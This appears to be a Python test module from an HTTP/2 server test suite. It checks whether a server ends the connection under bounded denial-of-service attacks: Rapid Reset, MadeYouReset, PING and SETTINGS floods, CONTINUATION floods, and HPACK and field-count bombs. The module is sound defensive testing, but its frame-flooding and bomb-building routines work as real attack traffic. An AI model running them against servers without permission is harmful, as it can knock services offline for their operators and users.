"""The attacks of issue 30 point 4 (RFC 9113 10.5 Denial-of-Service
Considerations, 10.5.1 Limits on Field Block Size; RFC 7541 7.3), each bounded
by the limit the server is expected to enforce (h2_suite.py --help, README.md).

Most follow one shape: send the attack up to its limit plus some slack,
reading what the server sends in between; then a PING. The server passes when
it ended the connection (GOAWAY or close) before answering that PING: a PING
ACK means it read everything and carried on.
"""
import select
import ssl
import time

from h2cases import CaseFailed, case, fail, skip
from h2conn import (
    CLOSED, GOAWAY, HEADER_TABLE_SIZE, HEADERS, INITIAL_WINDOW_SIZE, MAX_CONCURRENT_STREAMS, MAX_FRAME_SIZE,
    PING, PROTOCOL_ERROR, REFUSED_STREAM, RST_STREAM, continuation, data, error_name, headers,
    hp_indexed, hp_literal, ping, rst_stream, settings, window_update)


def ended(c):
    """How the server ended the connection so far, or None."""
    if c.goaway is not None:
        g = c.goaway
        return "GOAWAY %s (last stream %d%s)" % (error_name(g.code), g.last_sid,
                                                 ", %r" % g.debug[:60].decode("latin-1") if g.debug else "")
    if c.closed:
        return "closed (%s)" % c.closed
    return None


def end_or_fail(c, what):
    """After the attack: the connection must end (GOAWAY or close); a PING
    answered first means the server took all of it. Returns how it ended."""
    if ended(c):
        return ended(c)
    if c.send_error:
        # The server stopped reading: fine only if it ends the connection now.
        def check(ev):
            return ev is CLOSED or ev.type == GOAWAY
        try:
            c.until(check, "GOAWAY or a close")
        except CaseFailed as e:
            raise CaseFailed("%s, then %s" % (c.send_error, e)) from e
        return ended(c)
    opaque = b"probe!!!"
    c.send(ping(opaque))

    def check(ev):
        if ev is CLOSED or ev.type == GOAWAY:
            return True
        if ev.type == PING and ev.ack and ev.opaque == opaque:
            return "%s and kept the connection (answered the PING sent after it)" % what
        return False
    c.until(check, "GOAWAY or a close")
    return ended(c)


def sync(c, opaque):
    """Waits for the ACK of PING opaque; False when the connection ended or
    nothing came within the timeout."""
    def check(ev):
        return ev is CLOSED or ev.type == GOAWAY or (ev.type == PING and ev.ack and ev.opaque == opaque)
    try:
        c.until(check, "PING ACK")
    except CaseFailed:
        return False
    return not ended(c)


def answered(c):
    return sum(1 for s in c.streams.values() if s.blocks)


def resets(c):
    return sum(1 for s in c.streams.values() if s.rst is not None)


@case("10.5/1", "Concurrent streams: SETTINGS_MAX_CONCURRENT_STREAMS is advertised, at most --max-streams "
      "(100), and the stream beyond it is refused (RST_STREAM REFUSED_STREAM or PROTOCOL_ERROR)")
def concurrent_streams(t):
    c = t.conn((INITIAL_WINDOW_SIZE, 0))  # answers wait on the window: streams stay open
    n = c.peer_sent.get(MAX_CONCURRENT_STREAMS)
    if n is None:
        fail("no SETTINGS_MAX_CONCURRENT_STREAMS: streams per connection are unlimited")
    if n > t.cfg.max_streams:
        fail("advertises %d concurrent streams, more than %d" % (n, t.cfg.max_streams))
    fields = c.request_fields()
    c.send(*[headers(2 * i + 1, c.encode(fields)) for i in range(n + 1)])
    ev = c.expect_stream_error(None, REFUSED_STREAM, PROTOCOL_ERROR)
    c.drain(0.3)
    early = sorted(sid for sid, s in c.streams.items() if s.rst is not None and sid < 2 * n + 1)
    if early:
        fail("refused stream(s) %s within the first %d" % (early[:5], n))
    t.note("%d advertised; %s" % (n, ev if ev is not CLOSED else "closed"))


@case("10.5/2", "Rapid Reset (CVE-2023-44487): HEADERS+RST_STREAM pairs end the connection (GOAWAY, "
      "typically ENHANCE_YOUR_CALM, or close) within --rapid-reset (2000) pairs, not all answered")
def rapid_reset(t):
    c = t.conn()
    fields = c.request_fields()
    limit, sent, sid = t.cfg.rapid_reset, 0, 1
    while sent < limit and not ended(c):
        k = min(100, limit - sent)
        buf = []
        for i in range(k):
            buf += [headers(sid + 2 * i, c.encode(fields)), rst_stream(sid + 2 * i)]
        if not c.send(*buf):
            break
        sent, sid = sent + k, sid + 2 * k
        c.drain(0)
    how = end_or_fail(c, "took %d HEADERS+RST_STREAM pairs" % sent)
    n = answered(c)
    if n >= sent:
        fail("answered all %d reset streams before it %s" % (sent, how))
    t.note("%s after <= %d pairs sent, %d answered" % (how, sent, n))


def _made_you_reset(t, what, provoke=lambda sid: b"", extra=()):
    """Requests (with extra fields), each followed by provoke(sid): what the
    server must reset the stream for."""
    c = t.conn((INITIAL_WINDOW_SIZE, 0))  # answers stay pending: the streams are still there
    fields = c.request_fields(extra=extra)
    limit, sent, sid = t.cfg.made_you_reset, 0, 1
    while sent < limit and not ended(c):
        # 50 at a time, then a PING answered: the server has sent the resets of
        # these before the next ones come, so its concurrency limit is not what
        # stops them (a stream it reset counts until the RST_STREAM is out).
        k = min(50, limit - sent)
        buf = []
        for i in range(k):
            buf += [headers(sid + 2 * i, c.encode(fields)), provoke(sid + 2 * i)]
        opaque = b"myr%05d" % sent
        if not c.send(*buf, ping(opaque)):
            break
        sent, sid = sent + k, sid + 2 * k
        if not sync(c, opaque):
            break
    how = end_or_fail(c, "reset %d streams for %s" % (resets(c), what))
    t.note("%s after <= %d provoked, %d resets seen" % (how, sent, resets(c)))


@case("10.5/3", "MadeYouReset (CVE-2025-8671): WINDOW_UPDATE of 0 on open streams (each a stream error) "
      "ends the connection within --made-you-reset (2000) resets")
def made_you_reset_window(t):
    _made_you_reset(t, "WINDOW_UPDATE 0", lambda sid: window_update(sid, 0))


@case("10.5/4", "MadeYouReset (CVE-2025-8671): DATA on half-closed (remote) streams (each STREAM_CLOSED) "
      "ends the connection within --made-you-reset (2000) resets")
def made_you_reset_data(t):
    _made_you_reset(t, "DATA after END_STREAM", lambda sid: data(sid, b"x"))


@case("10.5/10", "MadeYouReset (CVE-2025-8671): malformed requests (an upper-case field name, each a stream "
      "error PROTOCOL_ERROR) end the connection within --made-you-reset (2000) resets")
def made_you_reset_malformed(t):
    _made_you_reset(t, "malformed requests", extra=[("X-Upper", "1")])


def _flood_unread(t, unit, what):
    """Sends unit (a frame that wants an answer) over and over, never reading,
    until the connection ends, --flood-bytes are out or --flood-seconds pass."""
    cfg = t.cfg
    c = t.conn(rcvbuf=4096)
    chunk = memoryview(unit * (16384 // len(unit)))
    sock = c.sock
    sock.setblocking(False)
    sent, off, t0 = 0, 0, time.monotonic()
    deadline, last_progress = t0 + cfg.flood_seconds, t0
    why = None
    while sent < cfg.flood_bytes and time.monotonic() < deadline:
        try:
            n = sock.send(chunk[off:])
            sent, off = sent + n, (off + n) % len(chunk)
            last_progress = time.monotonic()
            continue
        except (BlockingIOError, ssl.SSLWantWriteError, ssl.SSLWantReadError):
            pass
        except OSError as e:
            why = "send: %s" % (e.strerror or e)
            break
        try:
            select.select([], [sock], [sock], 0.05)
        except (OSError, ValueError) as e:
            why = str(e)
            break
    stalled = time.monotonic() - last_progress
    c.timeout = cfg.timeout
    if why is None:
        # Not seen from the sending side: is the end (a GOAWAY, EOF) waiting in what we never read?
        deadline = time.monotonic() + cfg.timeout
        while time.monotonic() < deadline:
            ev = c.next(deadline)
            if ev is None:
                break
            if ev is CLOSED or ev.type == GOAWAY:
                why = str(ev) if ev is not CLOSED else "closed (%s)" % c.closed
                break
    mib = sent / (1 << 20)
    if why is None:
        fail("%.1f MiB of %s sent in %.1f s without reading%s; the connection did not end" % (
            mib, what, time.monotonic() - t0,
            " (the server stopped reading for the last %.1f s)" % stalled if stalled > 0.5 else ""))
    t.note("ended after %.1f MiB (%d frames): %s" % (mib, sent // len(unit), why))


@case("10.5/5", "PING flood without reading (CVE-2019-9512): the server bounds its queued PING ACKs and "
      "ends the connection within --flood-seconds (5 s)")
def ping_flood(t):
    _flood_unread(t, ping(b"floodme!"), "PING")


@case("10.5/6", "SETTINGS flood without reading (CVE-2019-9515): the server bounds its queued SETTINGS ACKs "
      "and ends the connection within --flood-seconds (5 s)")
def settings_flood(t):
    _flood_unread(t, settings(), "SETTINGS")


@case("10.5/7", "Empty DATA flood (CVE-2019-9518): empty DATA frames on an open stream end the connection "
      "within --empty-frames (10000)")
def empty_data_flood(t):
    c = t.conn()
    c.request(1, c.request_fields("POST", t.cfg.post_path), end_stream=False)
    limit, sent = t.cfg.empty_frames, 0
    while sent < limit and not ended(c):
        k = min(1000, limit - sent)
        if not c.send(data(1) * k):
            break
        sent += k
        c.drain(0)
    how = end_or_fail(c, "took %d empty DATA frames" % sent)
    t.note("%s after <= %d empty DATA frames" % (how, sent))


@case("10.5/8", "Empty CONTINUATION flood (CVE-2019-9518, CVE-2024-27316 class): a field block in more than "
      "--continuations (8) CONTINUATION frames ends the connection (+ --slack-frames)")
def empty_continuation_flood(t):
    c = t.conn()
    n = t.cfg.continuations + t.cfg.slack_frames
    c.send(headers(1, c.encode(c.request_fields()), end_headers=False),
           continuation(1, b"", end_headers=False) * n, continuation(1, b""))
    how = end_or_fail(c, "read a field block in %d CONTINUATION frames (%d empty)" % (n + 1, n))
    t.note("%s; %s" % (how, "stream 1 answered" if answered(c) else "stream 1 not answered"))


@case("10.5/9", "Zero-window reader: with SETTINGS_INITIAL_WINDOW_SIZE 0 and large answers pending, "
      "another connection is still served and the stalled one ends within --stall-seconds (35)")
def zero_window_reader(t):
    cfg = t.cfg
    c = t.conn((INITIAL_WINDOW_SIZE, 0))
    for i in range(10):
        c.request(2 * i + 1, c.request_fields(path=cfg.large_path))
    c.drain(0.5)
    if all(c.stream(2 * i + 1).ended for i in range(10)):
        skip("%s answers without a body: nothing waits on the window" % cfg.large_path)
    t0 = time.monotonic()
    other = t.conn()
    other.auto_window = True
    other.request(1)
    st = other.expect_response(1)
    if st.final_status() != 200:
        fail("the other connection got %s, expected 200" % st.statuses())
    other.close()

    def check(ev):
        return ev is CLOSED or ev.type == GOAWAY
    try:
        ev = c.until(check, "the stalled connection to end", timeout=cfg.stall_seconds)
    except CaseFailed as e:
        raise CaseFailed("served the other connection, but %s" % e) from e
    t.note("other connection served; the stalled one ended after %.1f s: %s" % (
        time.monotonic() - t0, "closed (%s)" % c.closed if ev is CLOSED else ev))


@case("10.5.1/1", "CONTINUATION flood (CVE-2024-27316 class): a field block of --header-block (64 KiB) + "
      "--slack-frames (8) frames of 4 KiB ends the connection before it is all read")
def continuation_flood(t):
    c = t.conn()
    size = 4096
    frames = -(-t.cfg.header_block // size) + t.cfg.slack_frames

    def filler(i):
        name = "x-flood-%03d" % i
        return hp_literal(name, "a" * (size - len(name) - 4))  # one 4 KiB literal, not indexed
    first = c.encode(c.request_fields())
    c.send(headers(1, first + filler(0), end_headers=False))
    for i in range(1, frames):
        if ended(c) or not c.send(continuation(1, filler(i), end_headers=False)):
            break
        if i % 4 == 0:
            c.drain(0)
    c.send(continuation(1, b""))
    how = end_or_fail(c, "read a %d KiB field block in %d frames" % (frames * size // 1024, frames + 1))
    st = c.stream(1)
    t.note("%s; stream 1: %s" % (how, "reset %s" % error_name(st.rst) if st.rst is not None
                                 else st.statuses() or "no answer"))


def _refused(c, what):
    """The request on stream 1 is refused: a 4xx (431), RST_STREAM or a connection
    end; a 2xx/3xx (served) fails. Returns how."""
    def check(ev):
        if ev is CLOSED:
            return True
        if ev.type == GOAWAY:
            return True
        if ev.type == RST_STREAM and ev.sid == 1:
            return True
        if ev.type == HEADERS and ev.sid == 1 and ev.fields is not None:
            st = ev.status
            if isinstance(st, int) and st >= 400:
                return True
            if isinstance(st, int) and st < 200:
                return False
            return "%s was served: :status %s" % (what, st)
        return False
    ev = c.until(check, "a refusal (4xx, RST_STREAM or GOAWAY) of %s" % what)
    if ev is CLOSED:
        return "closed (%s)" % c.closed
    return ":status %s" % ev.status if ev.type == HEADERS else str(ev)


@case("10.5.1/2", "HPACK bomb (RFC 7541 7.3): a 16 KiB field block that decodes to ~48 MB (one 4 KiB "
      "dynamic-table entry referenced 12000 times) is refused (431, reset or GOAWAY), not served")
def hpack_bomb(t):
    c = t.conn()
    table = c.peer[HEADER_TABLE_SIZE]
    vlen = min(4000, table - 32 - len("x-bomb"))
    if vlen < 256:
        skip("the server's dynamic table is %d octets" % table)
    block = c.encode(c.request_fields())
    # Inserted last, so it is index 62 (the encoder's own entries shift; nothing is encoded after).
    block += hp_literal("x-bomb", "b" * vlen, indexing=True)
    refs = min(12000, c.peer[MAX_FRAME_SIZE] - len(block) - 16)
    block += hp_indexed(62) * refs
    c.send(headers(1, block))
    how = _refused(c, "a field section of %d MB" % (refs * (vlen + 38) // 1000000))
    t.note("%s (%d references to a %d-octet entry)" % (how, refs, vlen))


@case("10.5.1/3", "Field-count bomb (the 2026 \"HTTP/2 Bomb\" input): 2 x --header-count (200) one-octet "
      "field references, well under --header-bytes, are refused (431, reset or GOAWAY), not served")
def field_count_bomb(t):
    c = t.conn()
    n = 2 * t.cfg.header_count
    c.send(headers(1, c.encode(c.request_fields()) + hp_indexed(19) * n))  # 19: "accept", empty value
    how = _refused(c, "a request with %d fields" % (n + 4))
    t.note("%s (%d x 'accept:', %d octets of HPACK size)" % (how, n, n * 38))
